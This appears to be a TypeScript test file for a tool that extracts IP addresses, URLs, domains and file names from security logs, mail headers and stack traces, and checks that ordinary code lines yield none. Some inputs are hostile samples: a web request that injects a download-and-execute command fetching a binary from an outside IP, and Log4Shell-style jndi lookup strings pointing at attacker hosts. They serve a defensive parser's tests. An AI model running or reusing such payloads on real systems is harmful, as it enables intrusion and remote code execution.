import { testFinds } from './test-finds.ts';

const { raw } = String;

testFinds('lines of logs, rules, mails and scripts', [
  [
    'CEF:0|Palo Alto Networks|PAN-OS|10.2.3.4|THREAT|url|1|src=10.1.2.3 dst=45.77.12.34',
    'ipv4 10.1.2.3 · ipv4 45.77.12.34',
  ],
  ['LEEF:2.0|Vendor|Prod|1.0.0.5|41|\tsrc=10.1.2.3', 'ipv4 10.1.2.3'],
  ['cleanup[1235]: 4BQ1Xy2z3W: message-id=<abc.123@mailer.net>', 'message-id abc.123@mailer.net'],
  [
    '"GET /shell?cd+/tmp;rm+-rf+*;wget+http://45.77.12.34/jaws;sh+/tmp/jaws HTTP/1.1" 404 0',
    'url http://45.77.12.34/jaws',
    'url domain',
  ],
  [
    'at e.exports (https://cdn.evil.xyz/js/main.chunk.js:2:1234)',
    'url https://cdn.evil.xyz/js/main.chunk.js',
  ],
  [
    '${jndi:rmi://x.evil.top/b} ${jndi:dns://x.evil.top}',
    'url rmi://x.evil.top/b · url dns://x.evil.top',
  ],
  [
    'Content-Transfer-Encoding: quoted-printable\n\n<a href=3D"http://evil.com/x?a=3D1">',
    'url http://evil.com/x?a=1',
  ],
  [
    'Content-Transfer-Encoding: quoted-printable\n\nsee http://evil.com/long/pa=\nth/x.html',
    'url http://evil.com/long/path/x.html',
  ],
  [
    'ssl-cert: Subject: commonName=evil-kit.ru/organizationName=Foo/countryName=US',
    'domain evil-kit.ru',
  ],
  [
    raw`"command_line":"\"C:\\Windows\\System32\\cmd.exe\" /c ping 1.2.3.4"`,
    raw`filename C:\Windows\System32\cmd.exe · ipv4 1.2.3.4`,
  ],
]);

testFinds('lines of code hold no addresses and no host names', [
  ['self.target = os.path.join(a); self.cc = "cl"; this.ws[k] = 1; cls.tk = Tk()', ''],
  ['match.group(1); fp.seek(0); if (entry.name === ".x") cookie.secure = true', ''],
  ['rows.filter((column) => column.id); return tagColor.open; const x = axis.center[2] / 2', ''],
  ['from collections.abc import Mapping\nfrom test.support import patch\nimport importlib.abc', ''],
  [raw`re.match(r"^\d+$", x.name); df.head(); std::cout << p.st;`, ''],
  ['zip(sparse[::2], sparse[1::2])', ''],
  [
    '<path d="M8 .75a.75.75 0 1 1 0 1.5.75.75 0 0 1 0-1.5zm5.905 2.47.61.61 1.05 1.22-.716 2.36.75.75 0 0 1"/>',
    '',
  ],
  ['<Reference Include="Newtonsoft.Json, Version=13.0.0.0, Culture=neutral" />', ''],
]);
